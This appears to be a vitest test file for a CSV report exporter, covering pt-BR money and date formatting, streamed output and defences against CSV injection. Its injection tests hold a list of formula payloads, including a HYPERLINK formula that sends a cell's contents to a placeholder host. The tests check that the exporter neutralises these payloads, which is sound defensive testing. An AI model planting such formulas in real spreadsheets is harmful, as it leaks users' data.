import { Readable } from 'node:stream';
import { pipeline } from 'node:stream/promises';
import { describe, expect, it } from 'vitest';
import { findReport } from './catalogue';
import { csvBatches, dataValues, formatCell } from './csv';

const NBSP = '\u00a0';

describe('CSV cells', () => {
  it('writes money as BRL pt-BR, decimals with a comma and dates as DD/MM/YYYY', () => {
    expect(formatCell({ key: 'v', kind: 'MONEY' }, '1234.5')).toBe(`R$${NBSP}1.234,50`);
    expect(formatCell({ key: 'v', kind: 'MONEY' }, '0.00')).toBe(`R$${NBSP}0,00`);
    expect(formatCell({ key: 'q', kind: 'DECIMAL' }, '1234.500')).toBe('1234,5');
    expect(formatCell({ key: 'q', kind: 'DECIMAL' }, '-2.000')).toBe('-2');
    expect(formatCell({ key: 'd', kind: 'DATE' }, '2026-03-05')).toBe('05/03/2026');
    expect(formatCell({ key: 'n', kind: 'INTEGER' }, 17)).toBe('17');
    expect(formatCell({ key: 't', kind: 'TEXT' }, null)).toBe('');
  });
});

async function csvOf(index: number, batches: Record<string, unknown>[][]): Promise<string> {
  const csv = csvBatches(findReport(index)!);
  let out = '';
  csv.on('data', (chunk: Buffer | string) => (out += chunk.toString()));
  await pipeline(Readable.from(batches), csv);
  return out;
}

describe('CSV stream', () => {
  it("writes a BOM, the header and ';'-separated rows, quoting what needs it", async () => {
    const out = await csvOf(10, [
      [{ Bairro: 'Centro', 'Quantidade de Pedidos': 2, 'Valor Total': '170.00' }],
      [{ Bairro: 'Vila; "Nova"', 'Quantidade de Pedidos': 1, 'Valor Total': '1090.5' }],
    ]);
    expect(out).toBe('\ufeffBairro;Quantidade de Pedidos;Valor Total\r\n' + `Centro;2;R$${NBSP}170,00\r\n` + `"Vila; ""Nova""";1;R$${NBSP}1.090,50\r\n`);
  });

  it('writes the header alone for a report without rows', async () => {
    expect(await csvOf(17, [])).toBe('\ufeffData;Quantidade de Pedidos;Valor Total;Ticket Médio\r\n');
  });
});

describe('CSV injection (OWASP)', () => {
  const DANGEROUS = ['=HYPERLINK("http://x/?"&A1,"c")', '+SUM(A1:A2)', '-2+3', '@SUM(1)', '\tTAB', '\rCR'];
  const report2 = findReport(2)!;

  it('writes every text cell that begins with a formula character as inert text', () => {
    for (const text of DANGEROUS) {
      expect(formatCell({ key: 'Cliente', kind: 'TEXT' }, text)).toBe(`'${text}`);
      // A value that is no number or date where one was expected is text too.
      expect(formatCell({ key: 'n', kind: 'INTEGER' }, text)).toBe(`'${text}`);
      expect(formatCell({ key: 'd', kind: 'DATE' }, text)).toBe(`'${text}`);
    }
    expect(formatCell({ key: 'Cliente', kind: 'TEXT' }, 'Ana = Maria')).toBe('Ana = Maria');
  });

  it('keeps the numbers and dates it formats itself as numbers', () => {
    expect(formatCell({ key: 'v', kind: 'MONEY' }, '-12.5')).toBe(`-R$${NBSP}12,50`);
    expect(formatCell({ key: 'q', kind: 'DECIMAL' }, '-2.5')).toBe('-2,5');
    expect(formatCell({ key: 'n', kind: 'INTEGER' }, -3)).toBe('-3');
  });

  it('neutralises the CSV of a report and the rows tools read', async () => {
    const row = { Código: 7, Cliente: DANGEROUS[0], CPF: '@52998224725', 'Qtd. Compras': 2, 'Valor Última Compra': '-1.50' };
    const out = await csvOf(2, [[row]]);
    const cells = out.split('\r\n')[1];
    expect(cells).toContain(`"'=HYPERLINK(""http://x/?""&A1,""c"")"`);
    expect(cells).toContain(";'@52998224725;");
    expect(cells).toContain(`-R$${NBSP}1,50`);
    const values = dataValues(report2, row);
    expect(values).toContain(`'${DANGEROUS[0]}`);
    expect(values).toContain("'@52998224725");
    expect(values).toContain('-1.50');
    expect(values).toContain('7');
  });
});
